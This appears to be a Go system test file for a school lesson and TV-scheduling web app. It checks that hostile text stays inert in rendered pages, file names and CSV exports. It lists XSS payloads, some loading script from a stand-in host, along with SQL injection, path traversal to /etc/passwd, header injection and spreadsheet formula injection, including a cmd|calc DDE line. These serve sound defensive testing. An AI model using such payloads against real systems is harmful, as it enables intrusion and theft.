package system

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/net/html"

	"lenlop/infra/sqldb/viewstore"
	"lenlop/services/lesson"
	"lenlop/services/people"
	"lenlop/services/schedule"
	"lenlop/services/school"
	"lenlop/services/viewership/television"
	"lenlop/test/system/harness"
	"lenlop/web/api"
)

// payloads are what a hostile person types. Elements that must never come to
// life are named xss-..., so that one is known wherever it appears.
func payloads() []string {
	ps := []string{
		`<script>xss()</script>`, `<script src=//ke-xau.example/x.js></script>`, `</script><xss-script>`,
		`</title><xss-title>`, `</textarea><xss-area>`,
		`</style><xss-style>`, `</option></select><xss-select>`, `--><xss-comment>`, `<!--<xss-open>`, `]]><xss-cdata>`,
		`<![CDATA[<xss-in>]]>`,
		`"><xss-double>`, `'><xss-single>`, "`><xss-back>", `" onmouseover="xss()`, `' onfocus='xss()' autofocus='`,
		`x" style="background:url(//ke-xau.example)`,
		`"/onload=xss()//`, `<img src=x onerror=xss()>`, `<svg/onload=xss()>`, `<svg><script>xss()</script></svg>`,
		`<math><mi xlink:href="javascript:xss()">`,
		`<iframe srcdoc="<xss-frame>">`, `<object data="javascript:xss()">`, `<embed src=javascript:xss()>`,
		`<base href="//ke-xau.example/">`,
		`<meta http-equiv=refresh content="0;url=//ke-xau.example">`,
		`<link rel=stylesheet href=//ke-xau.example/x.css>`, `<style>@import'//ke-xau.example'</style>`,
		`<form action=//ke-xau.example><button>`, `<a href="javascript:xss()">x</a>`, `javascript:xss()`,
		"java\tscript:xss()", `data:text/html,<xss-data>`, `vbscript:xss()`,
		`&lt;xss-entity&gt;`, `&#60;xss-number&#62;`, `&#x3c;xss-hex&#x3e;`, `%3Cxss-percent%3E`,
		`\u003cxss-unicode\u003e`, `\x3cxss-x\x3e`,
		"＜xss-wide＞", "<xss-nul\x00>", "\x00<xss-lead>", "a\x00b", "\u202eexe.4pm", "\u2066<xss-bidi>\u2069",
		"\u200b<xss-zero>", "\ufeff<xss-bom>",
		`{{.}} {{printf "%s" "x"}}`, `${7*7}`, `<%= 7*7 %>`, `{% raw %}`, `#{7*7}`, `%s%s%n%d`,
		`'; DROP TABLE lessons; --`, `" OR "1"="1`, `*) OR (1=1`,
		`../../etc/passwd`, `..\..\windows`, `file:///etc/passwd`, "dòng\r\nX-Dau: 1", strings.Repeat("x", 10_000),
		strings.Repeat("Ẫ", 5_000), strings.Repeat("<xss-many>", 1_000),
		"\xff\xfe<xss-broken>", "\xc0\xbcxss-overlong\xc0\xbe",
	}
	return ps
}

// TestHostileTextIsText puts what hostile people type straight into the store,
// past every check, and parses every page that shows it.
func TestHostileTextIsText(t *testing.T) {
	h := start(t, nil)
	w := newWorld(h)
	ctx := context.Background()
	reviewer := must[people.Person](t)(h.App.DB.People().Person(ctx, "p-chuyen-vien"))
	save := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	ps := payloads()
	if len(ps) < 60 {
		t.Fatalf("only %d payloads", len(ps))
	}
	pages := 0
	for i, p := range ps {
		name := fmt.Sprintf("doc-%03d", i)
		save(h.App.DB.Schools().SaveSchool(ctx,
			school.School{ID: name, Code: name, Name: p, Level: school.Mixed, CreatedAt: time.Now()}))
		save(h.App.DB.People().SavePerson(ctx,
			people.Person{ID: name, Username: name, Name: p, Active: true, PasswordHash: harness.PasswordHash(),
				Grants:    []people.Grant{{Role: people.Teacher, School: name}, {Role: people.Head, School: name}},
				CreatedAt: time.Now()}))
		var ids []string
		for _, state := range []string{"refused", "submitted", "published", "returned", "withdrawn"} {
			id := w.lesson(state)
			l := must[lesson.Lesson](t)(h.App.DB.Lessons().Lesson(ctx, id))
			l.Title, l.Description, l.TeacherID, l.SchoolID = p, p, name, name
			r := must[lesson.Recording](t)(h.App.DB.Lessons().Recording(ctx, l.Media.RecordingID))
			r.Filename = p
			save(h.App.DB.Lessons().SaveRecording(ctx, r))
			switch state {
			case "published":
				l.Status = lesson.Submitted
			case "returned":
				l.Status, l.ReturnNote = lesson.Returned, p
			case "withdrawn":
				l.Status, l.Reason, l.WithdrawnBy = lesson.Withdrawn, p, name
			}
			save(h.App.DB.Lessons().Save(ctx, l))
			if state == "published" {
				must[lesson.Lesson](t)(h.App.Lessons.Approve(ctx, reviewer, id, time.Time{}))
			}
			ids = append(ids, id)
		}
		start := time.Now().Add(-time.Hour).Truncate(time.Second)
		save(h.App.DB.Schedule().SaveChannel(ctx,
			schedule.Channel{ID: name, Name: p, Own: true, Timezone: "Asia/Ho_Chi_Minh", CreatedAt: time.Now()}))
		save(h.App.DB.Schedule().SaveAiring(ctx, schedule.Airing{ID: name, ChannelID: name, LessonID: ids[2],
			HouseNumber: p, Note: p, StartsAt: start, EndsAt: start.Add(20 * time.Minute),
			Outcome: schedule.Aired, StartedAt: start, EndedAt: start.Add(20 * time.Minute), CreatedBy: name,
			ReportedBy: name, CreatedAt: start, ReportedAt: start}))
		save(viewstore.NewFigures(h.App.DB).AddFigures(ctx,
			[]television.Figure{{ID: name, AiringID: name, LessonID: ids[2], ChannelID: name,
				Metric: television.Contacts, Value: 5,
				Unit: television.Persons, Grade: television.GradeE, Source: p, Method: p, At: time.Now(),
				HandedInBy: name}}))
		w.signIn(name)
		look := func(account string, paths ...string) {
			t.Helper()
			for _, path := range paths {
				status, body := w.send(account, "cookie",
					asked{method: "GET", path: path, header: http.Header{"Accept": {"text/html"}}})
				if status != 200 && status != 404 {
					t.Errorf("%.40q: %s as %s: %d", p, path, account, status)
				}
				pages++
				harmless(t, path, p, body)
			}
		}
		q := url.QueryEscape(p)
		if len(q) > 4000 {
			q = url.QueryEscape(cutBytes(p, 1000))
		}
		look(name, "/teacher", "/school", "/teacher/lessons/"+ids[0], "/teacher/lessons/"+ids[3],
			"/teacher/lessons/"+ids[4], "/lessons/"+ids[2], "/account")
		look("chuyen-vien", "/review/"+ids[1], "/department/lessons/"+ids[2], "/station?channel="+name,
			"/station/airings/"+name)
		look("", "/lessons/"+ids[2], "/search?q="+q, "/lessons/"+url.PathEscape(strings.Trim(cutBytes(p, 300), "./")),
			"/?grade="+q, "/signin?back="+q, "/tv?channel="+q)
		shown := text(t, body(t, w, "", "/lessons/"+ids[2]))
		if want := strings.Join(strings.Fields(p), " "); utf8.ValidString(p) && !strings.Contains(p, "\x00") &&
			!strings.Contains(shown, want) {
			t.Errorf("%.60q is not shown as it was typed", p)
		}
	}
	for account, paths := range map[string][]string{
		"chuyen-vien": {"/review", "/department", "/department?by=school", "/department?by=channel"},
		"quan-tri":    {"/admin/people", "/admin/schools"},
		"":            {"/", "/tv", "/tv/week", "/search"}, "dai": {"/station", "/station/airings/new"},
	} {
		for _, path := range paths {
			pages++
			harmless(t, path, "all of them", body(t, w, account, path))
		}
	}
	t.Logf("%d payloads on %d pages", len(ps), pages)
}

func cutBytes(s string, n int) string { return s[:min(n, len(s))] }

func body(t *testing.T, w *world, account, path string) []byte {
	t.Helper()
	status, raw := w.send(account, "cookie",
		asked{method: "GET", path: path, header: http.Header{"Accept": {"text/html"}}})
	if status != 200 {
		t.Errorf("%s as %s: %d", path, account, status)
	}
	return raw
}

// harmless: nothing that was typed has become an element, a handler, an
// address that leads out, or a script.
func harmless(t *testing.T, path, payload string, raw []byte) {
	t.Helper()
	for _, why := range inline(t, raw) {
		t.Errorf("%.60q on %s: %s", payload, path, why)
	}
	doc, err := html.Parse(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		if n.Type == html.ElementNode && (strings.HasPrefix(n.Data, "xss") || n.Data == "math") ||
			n.Type == html.CommentNode && strings.Contains(n.Data, "xss") {
			t.Errorf("%.60q on %s came to life as <%s>", payload, path, n.Data)
		}
		if n.Type == html.ElementNode && n.Data == "meta" {
			for _, a := range n.Attr {
				if a.Key == "http-equiv" {
					t.Errorf("%.60q on %s: meta %s", payload, path, a.Val)
				}
			}
		}
	}
}

// text is all that a page says.
func text(t *testing.T, raw []byte) string {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for n := range doc.Descendants() {
		if n.Type == html.TextNode {
			b.WriteString(n.Data + " ")
		}
	}
	return strings.Join(strings.Fields(b.String()), " ")
}

// TestHostileTextIsRefused: what cannot be shown for what it is does not get
// in by the normal routes.
func TestHostileTextIsRefused(t *testing.T) {
	h := start(t, nil)
	teacher := h.As("giao-vien")
	for _, p := range []string{"a\x00b", "\u202eexe.4pm", "\u2066a\u2069", "a\x1b[31m", "a\x7f",
		strings.Repeat("x", 10_000)} {
		for _, field := range []string{"title", "description"} {
			in := map[string]any{"title": "Tên", "subject": "toan", "grade": 9}
			in[field] = p
			teacher.Refused("POST", "/lessons", in, 422, "lesson.invalid")
		}
	}
	// A NUL ends no statement: these people and lessons are simply unknown.
	h.As("").Refused("POST", "/tokens", map[string]any{"username": "quan-tri\x00", "password": harness.Password}, 401,
		"signin.wrong")
	teacher.Refused("GET", "/lessons/%00", nil, 404, "lesson.not_found")
	teacher.Refused("GET", "/uploads/a%00", nil, 404, "upload.not_found")
	teacher.OK("GET", "/search?q=%00&subject=%00&school=%ff", nil, 200, nil)
	teacher.OK("GET", "/lessons?teacher=%00&subject=%ff&cursor=%00", nil, 200, nil)
	// File names are kept for showing, never used as a path.
	for _, name := range []string{"../../../etc/passwd", `..\..\x.mp4`, "a\x00.mp4", "\u202e4pm.exe",
		strings.Repeat("n", 5000) + ".mp4", "-i.mp4", "a\r\nX: 1.mp4"} {
		var u struct{ ID string }
		teacher.OK("POST", "/lessons/"+teacher.Draft("Tên tệp").ID+"/uploads",
			map[string]any{"filename": name, "size": 10}, 201, &u)
		var got struct{ Filename string }
		teacher.OK("GET", "/uploads/"+u.ID, nil, 200, &got)
		if strings.ContainsAny(got.Filename, "/\\\x00\r\n\u202e") || len(got.Filename) > 1000 {
			t.Errorf("the file name %.40q is kept as %.60q", name, got.Filename)
		}
	}
}

// TestNoFormulaInCSV opens both tables as a spreadsheet reads them.
func TestNoFormulaInCSV(t *testing.T) {
	h := start(t, nil)
	w := newWorld(h)
	ctx := context.Background()
	formulas := []string{`=1+1`, `+1`, `-1+cmd|' /C calc'!A0`, `@SUM(1)`, "\t=1+1", "\r=1+1", "\n=1", `＝1+1`, `＋1`,
		`－1`, `＠SUM(1)`, `=HYPERLINK("//ke-xau.example","x")`, `|calc`}
	for i, f := range formulas {
		id := w.lesson("published")
		l := must[lesson.Lesson](t)(h.App.DB.Lessons().Lesson(ctx, id))
		l.Title = f
		if err := h.App.DB.Lessons().Save(ctx, l); err != nil {
			t.Fatal(err)
		}
		start := time.Now().Add(-time.Hour)
		a := schedule.Airing{ID: fmt.Sprint("cong-thuc-", i), ChannelID: w.channel(), LessonID: id, StartsAt: start,
			EndsAt: start.Add(time.Minute), Outcome: schedule.Aired,
			StartedAt: start, EndedAt: start.Add(time.Minute), CreatedBy: "p-dai", CreatedAt: start}
		if err := h.App.DB.Schedule().SaveAiring(ctx, a); err != nil {
			t.Fatal(err)
		}
	}
	for _, path := range []string{"/department/table.csv?by=lesson", api.Base + "/viewership?by=lesson&format=csv"} {
		status, raw := w.send("chuyen-vien", "bearer", asked{method: "GET", path: path})
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\ufeff")))).ReadAll()
		if status != 200 || err != nil || len(rows) < len(formulas)+1 {
			t.Errorf("%s: %d, %d rows, %v", path, status, len(rows), err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if start := strings.TrimLeft(cell, " "); start != "" &&
					strings.ContainsRune("=+-@\t\r\n|＝＋－＠", []rune(start)[0]) {
					t.Errorf("%s: a spreadsheet runs %q", path, cell)
				}
			}
		}
	}
}
